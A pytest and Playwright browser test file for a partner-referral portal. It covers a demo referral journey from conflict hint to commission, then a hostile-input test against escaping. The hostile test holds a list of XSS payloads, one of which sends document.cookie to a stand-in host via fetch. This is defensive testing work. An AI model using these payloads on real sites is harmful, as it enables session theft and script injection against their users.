"""Referrals in a real browser on the demo data, CSRF on: the partner's form to the commission.

Both tests run on the demo data (the real `content/` and `portal.demo.load_demo`, demo
referrals included), not on the fixture content: this module overrides `live_app`.

The journey: a partner of Harbor Systems types the website of Tallpine Logistics, the demo
company Brightline Consulting already registered, and sees the live hint (never who registered
it), submits anyway, and lands on the confirmation with the reference and the due time. Staff
find the conflict in the inbox, accept it, take it, post an update and an internal note; the
partner sees the update (not the note) on the timeline and in the outbox e-mail, and
Brightline's registration is told, without naming Harbor. Staff mark it won; the partner sees
the commission the demo program's rule gives. axe-core checks every page on the way.

The hostile test sends a spread of the XSS corpus through the same forms and checks that no
page opens a dialog or carries live markup. Our Content-Security-Policy would block an injected
`alert` anyway, so that test switches the CSP off in its browser: escaping alone must hold.
With the CSP on (the journey), any CSP violation fails the test too. tests/test_xss_referrals.py
sends every payload through every field at request level.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import timedelta
from decimal import ROUND_HALF_UP, Decimal
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
import yaml
from flask import Flask

from portal import create_app
from portal.accounts.models import Organization
from portal.content_runtime import current_content
from portal.demo import DEMO_ORGS, DEMO_PASSWORD, load_demo
from portal.extensions import db
from portal.notify.models import OutboxMessage
from portal.referrals.api import due_text, first_response_due, sla_time_between
from portal.referrals.demo import REGISTERED_DEMO_COMPANY
from portal.referrals.events import EventKind
from portal.referrals.models import Referral, ReferralEvent, ReferralStatus
from portal.referrals.triage import CONTESTED_MESSAGE
from tests.browser.test_journey import assert_accessible
from tests.conftest import DEMO_CONTENT
from tests.xss_corpus import XSS_PAYLOADS, find_injections

# The demo accounts (portal/demo.py): one password for all of them.
PASSWORD = DEMO_PASSWORD
STAFF_EMAIL = "staff@flywheel.example"
STAFF_NAME = "Sam Rivera"
# The journey's partner: Harbor Systems, not the organisation holding Tallpine.
PARTNER_ORG = "Harbor Systems"
PARTNER_EMAIL = "lena@harbor-systems.example"
# Brightline Consulting registered Tallpine Logistics in the demo referrals.
HOLDER_ORG = "Brightline Consulting"
REGISTERED_DOMAIN = "tallpine-logistics.co.uk"
# The hostile test's partner: a Brightline member (its own referrals, away from the journey's).
HOSTILE_EMAIL = "priya@brightline.example"
UPDATE_TEXT = "We booked a discovery call for Tuesday."
NOTE_TEXT = "Budget approved by CFO - internal"
DEAL_VALUE = "123456.78"  # a value whose commission needs rounding to the cent


def expected_commission(partner_type: str, involvement: str, value: str) -> tuple[str, bool]:
    """The commission on a won deal, worked out from content/program.yml itself.

    Rate times value, rounded half-up to the cent, held under the rule's cap (caps are in
    major units of the program currency there). Returns the formatted amount and whether the
    cap applied.
    """
    program = yaml.safe_load(Path(DEMO_CONTENT, "program.yml").read_text(encoding="utf-8"))
    rule = next(
        r
        for r in program["commissions"]["rules"]
        if r["partner_type"] == partner_type and r["involvement"] == involvement
    )
    amount = (Decimal(value) * Decimal(str(rule["rate_percent"])) / 100).quantize(
        Decimal("0.01"), rounding=ROUND_HALF_UP
    )
    capped = rule.get("cap") is not None and amount > Decimal(rule["cap"])
    if capped:
        amount = Decimal(rule["cap"])
    return f"{program['currency']} {amount:,.2f}", capped


def _money(value: str) -> str:
    return f"USD {Decimal(value):,.2f}"


# A spread of the corpus: event handlers, script tags, attribute break-outs, autofocus
# tricks, mutation XSS, comment and noscript confusion.
FORM_PAYLOADS = (
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><script>alert(document.cookie)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<body onload=alert(1)>",
)
UPDATE_PAYLOAD = "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>"
NOTE_PAYLOAD = '<img src="x" onerror="fetch(\'//xss.example/?c=\'+document.cookie)">'
REASON_PAYLOAD = "<img src=x:alert(alt) onerror=eval(src) alt=0>"


@pytest.fixture(scope="module")
def live_app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flask]:
    """The app on the demo data (real content/, `load_demo`) with CSRF and every protection on.

    Overrides tests/browser/conftest.py's `live_app` for this module only: the other browser
    tests keep the fixture content.
    """
    workdir: Path = tmp_path_factory.mktemp("browser-demo")
    app = create_app(
        {
            "SECRET_KEY": "browser-test-key",
            "SQLALCHEMY_DATABASE_URI": f"sqlite:///{workdir / 'portal.sqlite'}",
            "CONTENT_DIR": str(DEMO_CONTENT),
            "CONTENT_AUTO_RELOAD": False,
            "MAIL_BACKEND": "log",
            "RATELIMIT_ENABLED": False,
        }
    )
    with app.app_context():
        db.create_all()
        assert load_demo(current_content()), "the demo data loads into the empty database"
    yield app
    with app.app_context():
        db.engine.dispose()


@dataclass(frozen=True)
class Cast:
    """What the demo data holds for the journey."""

    holder_id: int  # Brightline's open Tallpine referral, the registration
    holder_ref: str
    holder_email: str  # who submitted it: the one its notices are e-mailed to
    partner_type: str  # Harbor Systems' partner type
    earlier_conflicts: tuple[str, ...]  # Harbor's demo conflicts for Tallpine already there


@pytest.fixture(scope="module")
def cast(live_app: Flask) -> Cast:
    """Brightline holds Tallpine; Harbor Systems may already have a conflict for it."""
    with live_app.app_context():
        orgs = {o.name: o for o in db.session.scalars(sa.select(Organization))}
        holder_org, harbor = orgs[HOLDER_ORG], orgs[PARTNER_ORG]
        tallpine = db.session.scalars(
            sa.select(Referral)
            .where(Referral.company_domain == REGISTERED_DOMAIN)
            .order_by(Referral.id)
        ).all()
        held = [
            r
            for r in tallpine
            if r.organization_id == holder_org.id and r.status == ReferralStatus.ACCEPTED
        ]
        assert len(held) == 1, "Brightline's demo referral holds Tallpine"
        holder = held[0]
        assert holder.company_name == REGISTERED_DEMO_COMPANY
        assert {name: kind for name, kind, *_ in DEMO_ORGS}[PARTNER_ORG] == harbor.partner_type
        earlier = tuple(
            r.reference
            for r in tallpine
            if r.organization_id == harbor.id and r.status == ReferralStatus.CONFLICT
        )
        return Cast(
            holder_id=holder.id,
            holder_ref=holder.reference,
            holder_email=holder.submitted_by.email,
            partner_type=harbor.partner_type,
            earlier_conflicts=earlier,
        )


@dataclass
class Window:
    """A browser page and what it reported: dialogs, CSP violations, script errors."""

    page: Any
    dialogs: list[str]
    problems: list[str]


def _watch(page: Any) -> Window:
    """Record what the page reports; the `page` fixture already records (and dismisses) dialogs."""
    window = Window(page, getattr(page, "dialogs", []), [])

    def on_dialog(dialog: Any) -> None:
        window.dialogs.append(dialog.message)
        dialog.dismiss()

    def on_console(message: Any) -> None:
        # An escaped page never trips the CSP: a violation is a payload that became markup.
        if "Content Security Policy" in message.text:
            window.problems.append(message.text)

    if not hasattr(page, "dialogs"):
        page.on("dialog", on_dialog)
    page.on("console", on_console)
    page.on("pageerror", lambda error: window.problems.append(str(error)))
    return window


@contextmanager
def _signed_in(
    browser: Any, live_url: str, email: str, *, bypass_csp: bool = False
) -> Iterator[Window]:
    """A fresh browser context (its own cookies) signed in through the login form."""
    context = browser.new_context(base_url=live_url, bypass_csp=bypass_csp)
    try:
        window = _watch(context.new_page())
        _sign_in(window.page, email)
        yield window
    finally:
        context.close()


def _sign_in(page: Any, email: str) -> None:
    from playwright.sync_api import expect

    page.goto("/login")
    page.get_by_label("E-mail").fill(email)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("button", name="Sign out")).to_be_visible()


def _fill_referral(
    page: Any, *, company: str, website: str, email: str, contact: str, role: str, need: str
) -> None:
    """Fill the referral form; the website is typed key by key, as a person would."""
    page.get_by_label("Company name").fill(company)
    page.get_by_label("Company website").press_sequentially(website)
    page.get_by_label("Region").select_option("Europe")
    page.get_by_label("Contact's name").fill(contact)
    page.get_by_label("Contact's e-mail").fill(email)
    page.get_by_label("Contact's role").fill(role)
    page.get_by_label("Estimated deal size").fill("90000")
    page.get_by_label("Currency").select_option("USD")
    page.get_by_label("Expected timing").select_option("3-6")
    page.get_by_label("What the customer needs").fill(need)
    page.get_by_label("Sourced: we brought this lead").check()
    page.get_by_label("The contact agreed to be introduced").check()


def _submit_referral(page: Any) -> str:
    page.get_by_role("button", name="Submit referral").click()
    page.wait_for_url(re.compile(r"/referrals/R-\d+/submitted$"))
    return re.search(r"/referrals/(R-\d+)/submitted$", page.url).group(1)


def _detail(scope: Any, term: str) -> Any:
    """The <dd> that follows the <dt> named `term` in a details list."""
    return scope.locator(f"dt:text-is('{term}') + dd").first


def _disclose(page: Any, summary: str) -> None:
    """Open a disclosure of the staff referral page: its secondary actions wait behind one."""
    from playwright.sync_api import expect

    disclosure = page.locator("details.disclosure", has=page.locator("summary", has_text=summary))
    disclosure.locator("summary").click()
    expect(disclosure).to_have_attribute("open", "")


def _act(page: Any, button: str, notice: str | re.Pattern[str]) -> None:
    """Press an action button on the staff referral page; htmx swaps in the panel's notice."""
    from playwright.sync_api import expect

    page.get_by_role("button", name=button, exact=True).click()
    expect(page.locator("#referral-panel [role=status]")).to_contain_text(notice)


@pytest.mark.browser
def test_referral_from_conflict_hint_to_commission(
    page: Any, browser: Any, live_app: Flask, live_url: str, cast: Cast
) -> None:
    from playwright.sync_api import expect

    commission_text, capped = expected_commission(cast.partner_type, "sourced", DEAL_VALUE)
    partner = _watch(page)
    _sign_in(page, PARTNER_EMAIL)

    # The partner types the website of the demo company Brightline registered: the live hint.
    page.goto("/referrals/new")
    assert_accessible(page, "the referral form")
    _fill_referral(
        page,
        company="Tallpine Logistics",
        website=f"www.{REGISTERED_DOMAIN}/contact",
        email=f"jordan.blake@{REGISTERED_DOMAIN}",
        contact="Jordan Blake",
        role="Head of Operations",
        need="Their depot managers plan routes by hand; they want a regional forecast.",
    )
    hint = page.locator("#registration-hint")
    expect(hint).to_contain_text("already open")
    expect(hint).to_contain_text("rules of engagement")
    expect(hint.get_by_role("link", name="rules of engagement")).to_be_visible()
    assert "Brightline" not in page.content()

    # Submitting anyway: a conflict under review, with the reference and the due time.
    ref = _submit_referral(page)
    assert ref not in cast.earlier_conflicts
    expect(page.get_by_role("heading", level=1)).to_have_text(f"Thank you: referral {ref} is in")
    expect(page.get_by_role("status").filter(has_text="Under review")).to_be_visible()
    due = page.locator("p", has_text="Expect a first response by")
    expect(due).to_contain_text("within 16 business hours (Mon-Fri 09:00-17:00 Europe/London")
    with live_app.app_context():
        mine = db.session.get(Referral, int(ref[2:]))
        assert mine is not None and mine.status == "conflict"
        assert mine.organization.name == PARTNER_ORG
        assert mine.conflict_with_id == cast.holder_id
        # The demo program's 16 business hours, on its London working week.
        program = current_content().program
        assert mine.first_response_due_at == first_response_due(mine.submitted_at, program)
        worked = sla_time_between(mine.submitted_at, mine.first_response_due_at, program)
        assert worked == timedelta(hours=16)
        assert mine.first_response_due_at - mine.submitted_at >= timedelta(hours=16)
        due_at = mine.first_response_due_at.isoformat(timespec="seconds")
        shown = due_text(mine.first_response_due_at, program)
    expect(due).to_contain_text(shown)
    expect(due).to_contain_text(re.compile(r"\(due in \d"))
    assert due.locator("time").get_attribute("datetime") == due_at
    assert "Brightline" not in page.content() and cast.holder_ref not in page.content()
    assert_accessible(page, "the confirmation page")

    # Staff, in their own browser: find it in the inbox, accept, take it, update, note.
    with _signed_in(browser, live_url, STAFF_EMAIL) as staff_window:
        staff = staff_window.page
        staff.goto("/inbox/")
        staff.get_by_label("Company or reference").fill(ref)
        staff.get_by_label("Company or reference").press("Enter")
        row = staff.locator("#inbox-results tbody tr")
        expect(row).to_have_count(1)  # the new one only, not Harbor's earlier demo conflict
        expect(row).to_contain_text(ref)
        expect(row).to_contain_text("Conflict")
        expect(row).to_contain_text(PARTNER_ORG)
        assert_accessible(staff, "the inbox")

        row.get_by_role("link", name="Tallpine Logistics", exact=True).click()
        staff.wait_for_url(f"**/inbox/{ref}")
        assert_accessible(staff, "the staff referral page")
        _act(staff, "Accept under the rules of engagement", f"{ref} accepted")
        _act(staff, "Assign to me", f"Assigned to {STAFF_NAME}")
        _disclose(staff, "Update the partner")
        staff.get_by_label("Update for the partner").fill(UPDATE_TEXT)
        _act(staff, "Post update", "Update posted")
        _disclose(staff, "Add an internal note")
        staff.get_by_label("Internal note (the partner never sees it)").fill(NOTE_TEXT)
        _act(staff, "Add note", "Internal note added")
        timeline = staff.locator("#referral-panel ol.timeline")
        expect(timeline).to_contain_text(UPDATE_TEXT)
        expect(timeline).to_contain_text(NOTE_TEXT)
        expect(_detail(staff.locator("#referral-panel"), "Owner")).to_have_text(STAFF_NAME)
        assert_accessible(staff, "the staff referral page after the actions")

        # The partner sees the acceptance and the update, never the internal note.
        page.goto(f"/referrals/{ref}")
        partner_timeline = page.locator("ol.timeline")
        expect(partner_timeline).to_contain_text("Accepted by the partner team")
        expect(partner_timeline).to_contain_text(UPDATE_TEXT)
        assert NOTE_TEXT not in page.content() and "Brightline" not in page.content()
        expect(_detail(page, "Owner")).to_have_text(STAFF_NAME.split()[0])  # the first name
        with live_app.app_context():
            mail = db.session.scalars(
                sa.select(OutboxMessage).where(OutboxMessage.to_email == PARTNER_EMAIL)
            ).all()
            holder_mail = db.session.scalars(
                sa.select(OutboxMessage).where(OutboxMessage.to_email == cast.holder_email)
            ).all()
            contested = db.session.scalars(
                sa.select(ReferralEvent).where(
                    ReferralEvent.referral_id == cast.holder_id,
                    ReferralEvent.kind == EventKind.REGISTRATION_CONTESTED,
                )
            ).all()
        update_mail = [m for m in mail if UPDATE_TEXT in m.body_text]
        assert len(update_mail) == 1 and UPDATE_TEXT in update_mail[0].body_html
        assert ref in update_mail[0].subject
        assert f"/referrals/{ref}" in update_mail[0].body_text
        for message in mail:
            for part in (message.subject, message.body_text, message.body_html):
                assert NOTE_TEXT not in part and "Brightline" not in part
        # Brightline's registration is told on its timeline and by e-mail, without naming who.
        assert [e.message for e in contested] == [CONTESTED_MESSAGE]
        assert contested[0].partner_visible
        told = [
            m
            for m in holder_mail
            if cast.holder_ref in m.subject and "Another referral for this company" in m.body_text
        ]
        assert len(told) == 1
        assert "Harbor" not in told[0].subject + told[0].body_text + told[0].body_html
        assert ref not in told[0].subject + told[0].body_text + told[0].body_html

        # Staff mark it won with a value: the commission follows from the program's rule.
        _disclose(staff, "Mark won or lost")
        staff.get_by_label("Deal value (leave empty to use the recorded one)").fill(DEAL_VALUE)
        _act(staff, "Mark won", f"commission {commission_text}")
        assert staff_window.dialogs == [] and staff_window.problems == []

    # Brightline, in its own browser, reads the notice on its Tallpine referral: no Harbor.
    with _signed_in(browser, live_url, cast.holder_email) as holder_window:
        holder_page = holder_window.page
        holder_page.goto(f"/referrals/{cast.holder_ref}")
        expect(holder_page.locator("ol.timeline")).to_contain_text(CONTESTED_MESSAGE)
        assert "Harbor" not in holder_page.content() and ref not in holder_page.content()
        assert holder_window.dialogs == [] and holder_window.problems == []

    page.reload()
    commission = page.locator("section", has=page.get_by_role("heading", name="Commission"))
    expect(commission).to_contain_text(commission_text)
    if capped:
        expect(commission).to_contain_text("capped at")
    else:
        expect(commission).not_to_contain_text("capped at")
    expect(page.get_by_role("heading", level=1)).to_contain_text("Won")
    assert_accessible(page, "the partner's referral page")

    page.get_by_role("link", name="See all your earnings").click()
    page.wait_for_url("**/earnings")
    earning = page.locator("tr", has=page.get_by_role("link", name=ref))
    expect(earning).to_contain_text(commission_text)
    expect(earning).to_contain_text(_money(DEAL_VALUE))
    assert_accessible(page, "the earnings page")
    assert partner.dialogs == [] and partner.problems == []


def _assert_inert(window: Window, where: str) -> None:
    from playwright.sync_api import expect

    page = window.page
    # The page as the person sees it: loaded (goto and reload wait for that), and htmx with
    # no request in flight and nothing being swapped or settled.
    expect(page.locator("main")).to_be_visible()
    expect(page.locator(".htmx-request, .htmx-swapping, .htmx-settling")).to_have_count(0)
    # A smuggled script runs while the page parses and renders (an alert even blocks it): a
    # task queued behind the next rendering comes back only after such scripts have run.
    page.evaluate("() => new Promise(done => requestAnimationFrame(() => setTimeout(done)))")
    assert window.dialogs == [], where
    assert window.problems == [], where
    assert find_injections(window.page.content()) == [], where


@pytest.mark.browser
def test_hostile_input_opens_no_dialog(browser: Any, live_app: Flask, live_url: str) -> None:
    payloads = (*FORM_PAYLOADS, UPDATE_PAYLOAD, NOTE_PAYLOAD, REASON_PAYLOAD)
    assert set(payloads) <= set(XSS_PAYLOADS), "the payloads come from the corpus"
    with (
        _signed_in(browser, live_url, HOSTILE_EMAIL, bypass_csp=True) as partner,
        _signed_in(browser, live_url, STAFF_EMAIL, bypass_csp=True) as staff,
    ):
        _hostile_round_trip(partner, staff)
    with live_app.app_context():
        stored = db.session.scalars(sa.select(Referral.company_name)).all()
    assert set(FORM_PAYLOADS[::4]) <= set(stored), "the payloads were stored as typed"


def _hostile_round_trip(partner: Window, staff: Window) -> None:
    """Payloads in through the partner's form and the staff actions, out on every page."""
    page = partner.page

    # Three referrals through the form, four payloads each (name, contact, role, need).
    refs = []
    for n, (company, contact, role, need) in enumerate(
        FORM_PAYLOADS[i : i + 4] for i in range(0, len(FORM_PAYLOADS), 4)
    ):
        page.goto("/referrals/new")
        _fill_referral(
            page,
            company=company,
            website=f"www.hostile-{n}.co.uk",
            email=f"buyer@hostile-{n}.co.uk",
            contact=contact,
            role=role,
            need=need,
        )
        refs.append(_submit_referral(page))
        _assert_inert(partner, f"confirmation of {refs[-1]}")

    # Staff work them: an update, an internal note, a rejection, each with a payload.
    staff.page.goto("/inbox/")
    _assert_inert(staff, "the inbox")
    actions = [
        (
            "Update the partner",
            "Update for the partner",
            UPDATE_PAYLOAD,
            "Post update",
            "Update posted",
        ),
        (
            "Add an internal note",
            "Internal note (the partner never sees it)",
            NOTE_PAYLOAD,
            "Add note",
            "note added",
        ),
        (
            None,
            "Why it is not accepted (the partner sees this)",
            REASON_PAYLOAD,
            "Reject",
            "rejected",
        ),
    ]
    for ref, (summary, label, text, button, notice) in zip(refs, actions, strict=True):
        staff.page.goto(f"/inbox/{ref}")
        if summary:
            _disclose(staff.page, summary)
        staff.page.get_by_label(label).fill(text)
        _act(staff.page, button, notice)
        _assert_inert(staff, f"staff page of {ref} after {button}")
        staff.page.reload()
        _assert_inert(staff, f"staff page of {ref}")
    staff.page.goto("/inbox/?status=all")
    _assert_inert(staff, "the inbox, every status")

    page.goto("/referrals")
    _assert_inert(partner, "the partner's referral list")
    for ref in refs:
        page.goto(f"/referrals/{ref}")
        _assert_inert(partner, f"the partner's page of {ref}")
